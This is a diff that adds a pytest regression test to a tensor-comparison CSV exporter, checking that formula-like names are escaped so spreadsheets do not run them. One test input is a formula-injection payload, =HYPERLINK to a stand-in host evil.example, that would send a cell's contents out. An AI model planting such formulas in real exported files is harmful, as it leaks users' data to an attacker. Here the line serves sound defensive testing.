@@ -269,6 +269,20 @@ def test_compare_csv_has_every_choice_at_full_precision_and_why_one_was_skipped(
     assert row["levels_used"].isdigit() and row["levels_available"].isdigit()  # it checked field 12 for ".0,"
 
 
+@pytest.mark.parametrize("tensor", ['=HYPERLINK("https://evil.example/?d="&A1,"details")', "+1", "-w", "@SUM(A1)",
+                                    "\tx"])
+def test_compare_csv_never_hands_a_spreadsheet_a_formula(tensor: str) -> None:
+    """A tensor named '=HYPERLINK(...)' was written as that formula, which Excel and LibreOffice
+    run when the file is opened (security review). Text cells that start as a formula get a
+    leading ' and read back as the name; numbers keep their sign."""
+    x = np.random.default_rng(4).standard_normal((8, 8)).astype(np.float32) - 5
+    df = run_compare(x, (Choice("int8", "absmax"),), axis=1)
+    back = pd.read_csv(io.StringIO(compare_csv(df, "en", tensor)), keep_default_na=False)
+    assert back["tensor"][0] == "'" + tensor
+    assert back["label"][0] == "int8 absmax" and back["sqnr_db"][0] == df["sqnr_db"][0]
+    assert compare_csv(df, "en", "layers.0.weight").splitlines()[1].endswith(",,layers.0.weight,")
+
+
 def test_compare_csv_names_the_block_and_its_size_of_block_schemes() -> None:
     """Block schemes fix their own blocks: the file said "tensor" and no block size for them."""
     x = np.random.default_rng(5).standard_normal((8, 128)).astype(np.float32)
